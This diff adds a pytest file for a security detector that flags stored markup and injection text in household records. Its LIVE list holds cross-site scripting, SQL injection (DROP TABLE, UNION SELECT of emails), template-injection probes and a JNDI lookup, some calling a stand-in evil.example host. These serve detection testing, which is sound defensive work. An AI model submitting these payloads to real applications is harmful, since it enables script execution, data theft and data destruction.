@@ -1,0 +1,126 @@
+"""stored-markup: what a page or a database would run, and what only looks like it."""
+
+from __future__ import annotations
+
+from datetime import timedelta
+
+import pytest
+
+from detectors.security.stored_markup import DETECTOR
+from tests.support.towns import AS_OF, MINUTE, Scanner, Town, uid
+
+LIVE = [
+    "<script>alert(1)</script>",
+    "Hi <SCRIPT src=//evil.example/x.js>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=x onerror=alert(1)",
+    "<svg/onload=alert(1)>",
+    "<x onclick = alert(1)>press",
+    "<b>bold</b>",
+    "text </textarea>",
+    '<a href="javascript:alert(1)">x</a>',
+    "<iframe src=data:text/html,hello>",
+    "<!-- hidden",
+    "x'; DROP TABLE households; --",
+    "' OR '1'='1",
+    "' or 1=1--",
+    "1 OR 1=1",
+    "' UNION SELECT email, id FROM users--",
+    "admin'--",
+    "1); select pg_sleep(10)",
+    "{{7*7}}",
+    "{{ config }}",
+    "{{constructor.constructor('alert(1)')()}}",
+    "${jndi:ldap://evil.example/a}",
+    "${7*7}",
+    "#{7*7}",
+    "<%= 7*7 %>",
+    "{% import os %}",
+    "<?php echo 1; ?>",
+]
+HARMLESS = [
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "%3Cscript%3E",
+    "Tom & Jerry's home",
+    "Tom &amp; Jerry&#39;s",
+    "We love javascript",
+    "javascript: the good parts",
+    "onclick=alert(1)",
+    "We <3 our dogs",
+    "cats < dogs > fish",
+    "dogs<cats",
+    "<The Smiths>",
+    "Ben <ben@example.com>",
+    "O'Brien's 'best' pets -- all of them",
+    "the dogs' and cats' home",
+    "Drop table manners at the door",
+    "Select dogs from the union of shelters; select food",
+    "Two or 3 = five",
+    "{hugs} {{hugs}}",
+    "$5 #1 (dogs)",
+    "100 % love; 50 %",
+]
+
+
+@pytest.fixture
+def town() -> Town:
+    town = Town()
+    town.family("oak", "anna", "ben", "cleo")
+    return town
+
+
+def test_silent_on_a_sound_and_on_an_empty_town(scanner: Scanner, town: Town) -> None:
+    assert scanner.findings(town, DETECTOR) == []
+    assert scanner.findings(Town(), DETECTOR) == []
+
+
+def test_fires_on_each_live_text(scanner: Scanner) -> None:
+    town = Town()
+    for place, text in enumerate(LIVE):
+        town.household(f"bad {place}", "anna", description=text)
+    missed = {uid(f"bad {place}"): text for place, text in enumerate(LIVE)}
+    for finding in scanner.findings(town, DETECTOR):
+        del missed[finding.subject["household_id"]]
+    assert missed == {}
+
+
+def test_silent_on_each_harmless_text(scanner: Scanner) -> None:
+    town = Town()
+    for place, text in enumerate(HARMLESS):
+        town.household(f"good {place}", "anna", description=text)
+        town.household(f"named {place}", "anna")
+        town.home(f"named {place}")["name"] = text
+    wrong = [finding.evidence for finding in scanner.findings(town, DETECTOR)]
+    assert wrong == []
+
+
+@pytest.mark.parametrize("field", ["name", "description", "invite_code"])
+def test_fires_on_each_field(scanner: Scanner, town: Town, field: str) -> None:
+    town.home("oak")[field] = "<script>alert(1)</script>"
+    (finding,) = scanner.findings(town, DETECTOR)
+    assert finding.subject == {"household_id": uid("oak")}
+    assert finding.impact.users == 3
+    assert [entry["field"] for entry in finding.evidence["fields"]] == [field]
+
+
+def test_the_quotation_is_short_and_shows_what_is_invisible(scanner: Scanner, town: Town) -> None:
+    town.home("oak")["description"] = "a" * 70 + "\u202e<script>\u200b" + "b" * 70
+    (finding,) = scanner.findings(town, DETECTOR)
+    (entry,) = finding.evidence["fields"]
+    assert len(entry["quote"]) <= 80
+    assert "\u202e" not in entry["quote"]
+    assert "<U+202E><script><U+200B>" in entry["quote"]
+
+
+def test_silent_once_repaired(scanner: Scanner, town: Town) -> None:
+    town.home("oak")["name"] = "<b>x</b>"
+    assert len(scanner.findings(town, DETECTOR)) == 1
+    town.home("oak")["name"] = "x"
+    assert scanner.findings(town, DETECTOR) == []
+
+
+@pytest.mark.parametrize(("age", "expected"), [(2 * MINUTE - MINUTE / 60, 0), (2 * MINUTE, 1)])
+def test_waits_for_a_creation_under_way(scanner: Scanner, age: timedelta, expected: int) -> None:
+    town = Town()
+    town.household("new", "anna", at=AS_OF - age, description="<b>x</b>")
+    assert len(scanner.findings(town, DETECTOR)) == expected
